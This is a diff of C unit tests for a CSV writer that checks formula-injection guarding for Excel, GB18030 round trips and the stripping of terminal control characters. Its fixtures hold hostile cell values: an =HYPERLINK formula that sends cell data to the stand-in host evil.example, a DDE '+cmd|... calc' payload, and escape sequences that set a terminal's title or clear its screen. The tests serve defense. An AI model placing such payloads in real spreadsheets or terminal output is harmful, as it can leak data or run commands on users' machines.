@@ -3,21 +3,34 @@
  *   Unit tests of src/core/csvout.c (the CSV writer), with their own Check
  *   runner: exact bytes for the byte order mark, quoting and CRLF; GB18030
  *   bytes compared with iconv(3)'s own conversion; refusals of text that is
- *   not UTF-8; and round trips through the reader of csv.c in each encoding.
+ *   not UTF-8; round trips through the reader of csv.c in each encoding;
+ *   the guard against formulas (issue 13 item 2: =HYPERLINK(...),
+ *   +cmd|..., @SUM(1+1), -2+3, a leading TAB or CR were written as they
+ *   are and ran in Excel): an apostrophe before such a text cell in UTF-8
+ *   with BOM and GB18030, numeric columns left numbers (negative ones
+ *   too), UTF-8 without BOM and a raw writer untouched, --excel-text's
+ *   formulas kept; and cells written to a terminal (a pseudo-terminal)
+ *   shown as the screens show them (issue 13 item 4). Cost: milliseconds.
  */
 #include "config.h"
 
 #include <check.h>
+#include <fcntl.h>
+#include <iconv.h>
+#include <locale.h>
 #include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <termios.h>
+#include <unistd.h>
 
 #include "core/csv.h"
 #include "core/csvout.h"
 
 #define JI_U8 "\xF0\xA0\xAE\xB7" /* 𠮷 U+20BB7 */
 #define BOM "\xEF\xBB\xBF"
+#define FFFD "\xEF\xBF\xBD"
 
 /* An in-memory file and what was written to it. */
 struct sink {
@@ -194,6 +207,178 @@ START_TEST(encoding_names)
 }
 END_TEST
 
+/* The cells of issue 13 item 2, each a text cell a spreadsheet runs. */
+static const char *const formulas[] = {
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击核实\")",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "\tx",
+    "\rx"};
+#define NFORMULAS (sizeof formulas / sizeof formulas[0])
+
+/* Write one row of cells with enc, raw or not, with kinds (NULL: text);
+ * the bytes stay in s. */
+static void
+write_guarded(struct sink *s, enum csvout_encoding enc, bool raw, size_t n,
+              const char *const *cells, const enum csvout_kind *kinds)
+{
+    char err[256] = "";
+    struct csvout *w;
+
+    sink_open(s);
+    w = csvout_open(s->fp, enc, err, sizeof(err));
+    ck_assert_msg(w != NULL, "open: %s", err);
+    if (raw)
+        csvout_set_raw(w);
+    if (kinds != NULL)
+        ck_assert_int_eq(csvout_set_kinds(w, n, kinds, err, sizeof(err)), 0);
+    ck_assert_int_eq(csvout_row(w, n, cells, err, sizeof(err)), 0);
+    ck_assert_int_eq(csvout_close(w, err, sizeof(err)), 0);
+    fflush(s->fp);
+}
+
+#define GUARDED                                                                 \
+    "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点击核实\"\")\"," \
+    "'+cmd|' /C calc'!A0,'@SUM(1+1),'-2+3,\"'\tx\",\"'\rx\"\r\n"
+
+START_TEST(guards_formulas_for_excel)
+{
+    struct sink s;
+
+    write_guarded(&s, CSVOUT_UTF8_BOM, false, NFORMULAS, formulas, NULL);
+    ck_assert_str_eq(s.buf, BOM GUARDED);
+    sink_close(&s);
+}
+END_TEST
+
+START_TEST(guards_formulas_in_gb18030)
+{
+    struct sink s;
+    char *back = NULL;
+    size_t backlen = 0;
+    FILE *u8 = open_memstream(&back, &backlen);
+    iconv_t cd = iconv_open("UTF-8", "GB18030");
+    char *in, *out, buf[512];
+    size_t inleft, outleft = sizeof(buf);
+
+    write_guarded(&s, CSVOUT_GB18030, false, NFORMULAS, formulas, NULL);
+    ck_assert(cd != (iconv_t)-1);
+    in = s.buf;
+    inleft = s.len;
+    out = buf;
+    ck_assert_uint_ne(iconv(cd, &in, &inleft, &out, &outleft), (size_t)-1);
+    fwrite(buf, 1, sizeof(buf) - outleft, u8);
+    fclose(u8);
+    ck_assert_str_eq(back, GUARDED);
+    iconv_close(cd);
+    free(back);
+    sink_close(&s);
+}
+END_TEST
+
+START_TEST(numeric_columns_stay_numbers)
+{
+    const char *cells[] = {"-2+3", "-5", "-12.50", "-2+3", "=1", "-5"};
+    const enum csvout_kind kinds[] = {CSVOUT_TEXT,   CSVOUT_NUMBER,
+                                      CSVOUT_NUMBER, CSVOUT_NUMBER,
+                                      CSVOUT_NUMBER, CSVOUT_TEXT};
+    struct sink s;
+
+    write_guarded(&s, CSVOUT_UTF8_BOM, false, 6, cells, kinds);
+    /* a numeric column's plain numbers stay numbers; what is no number
+     * there is guarded all the same; "-5" in a text column is text */
+    ck_assert_str_eq(s.buf, BOM "'-2+3,-5,-12.50,'-2+3,'=1,'-5\r\n");
+    sink_close(&s);
+}
+END_TEST
+
+START_TEST(raw_for_reimport)
+{
+    struct sink s;
+    const char *raw = "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,"
+                      "\"\"点击核实\"\")\",+cmd|' /C calc'!A0,@SUM(1+1),-2+3,"
+                      "\"\tx\",\"\rx\"\r\n";
+
+    write_guarded(&s, CSVOUT_UTF8, false, NFORMULAS, formulas, NULL);
+    ck_assert_str_eq(s.buf, raw);
+    sink_close(&s);
+    write_guarded(&s, CSVOUT_UTF8_BOM, true, NFORMULAS, formulas, NULL);
+    ck_assert_str_eq(s.buf + 3, raw);
+    sink_close(&s);
+}
+END_TEST
+
+START_TEST(excel_text_formulas_kept)
+{
+    const char *cells[] = {"123456789012", "12345678901", "-123456789012"};
+    char err[256] = "";
+    struct sink s;
+    struct csvout *w;
+
+    sink_open(&s);
+    w = csvout_open(s.fp, CSVOUT_UTF8_BOM, err, sizeof(err));
+    ck_assert_ptr_nonnull(w);
+    csvout_set_excel_text(w);
+    ck_assert_int_eq(csvout_row(w, 3, cells, err, sizeof(err)), 0);
+    ck_assert_int_eq(csvout_close(w, err, sizeof(err)), 0);
+    fflush(s.fp);
+    ck_assert_str_eq(
+        s.buf, BOM "\"=\"\"123456789012\"\"\",12345678901,'-123456789012\r\n");
+    sink_close(&s);
+}
+END_TEST
+
+/* A pseudo-terminal in raw mode: its master in *master, its other end as
+ * a FILE. */
+static FILE *
+open_terminal(int *master)
+{
+    struct termios t;
+    int slave;
+
+    *master = posix_openpt(O_RDWR | O_NOCTTY);
+    ck_assert_int_ge(*master, 0);
+    ck_assert_int_eq(grantpt(*master), 0);
+    ck_assert_int_eq(unlockpt(*master), 0);
+    slave = open(ptsname(*master), O_RDWR | O_NOCTTY);
+    ck_assert_int_ge(slave, 0);
+    ck_assert_int_eq(tcgetattr(slave, &t), 0);
+    cfmakeraw(&t);
+    ck_assert_int_eq(tcsetattr(slave, TCSANOW, &t), 0);
+    return fdopen(slave, "w");
+}
+
+START_TEST(a_terminal_sees_no_controls)
+{
+    const char *cells[] = {"\x1b]0;pwned\x07李四",
+                           "a\xc2\x9b"
+                           "2J\bb\rc",
+                           "\xe2\x80\xae"
+                           "cba"};
+    char err[256] = "", buf[512];
+    int master;
+    FILE *tty;
+    struct csvout *w;
+    ssize_t n;
+
+    ck_assert_ptr_nonnull(setlocale(LC_CTYPE, "C.UTF-8"));
+    tty = open_terminal(&master);
+    ck_assert_ptr_nonnull(tty);
+    w = csvout_open(tty, CSVOUT_UTF8, err, sizeof(err));
+    ck_assert_ptr_nonnull(w);
+    ck_assert_int_eq(csvout_row(w, 3, cells, err, sizeof(err)), 0);
+    ck_assert_int_eq(csvout_close(w, err, sizeof(err)), 0);
+    n = read(master, buf, sizeof(buf) - 1);
+    ck_assert_int_gt(n, 0);
+    buf[n] = '\0';
+    ck_assert_str_eq(buf, FFFD "]0;pwned" FFFD "李四,a" FFFD "2J" FFFD "b" FFFD
+                               "c," FFFD "cba\r\n");
+    fclose(tty);
+    close(master);
+}
+END_TEST
+
 static Suite *
 csvout_suite(void)
 {
@@ -208,6 +393,12 @@ csvout_suite(void)
     tcase_add_test(t, round_trip_utf8_bom);
     tcase_add_test(t, round_trip_gb18030);
     tcase_add_test(t, encoding_names);
+    tcase_add_test(t, guards_formulas_for_excel);
+    tcase_add_test(t, guards_formulas_in_gb18030);
+    tcase_add_test(t, numeric_columns_stay_numbers);
+    tcase_add_test(t, raw_for_reimport);
+    tcase_add_test(t, excel_text_formulas_kept);
+    tcase_add_test(t, a_terminal_sees_no_controls);
     suite_add_tcase(s, t);
     return s;
 }
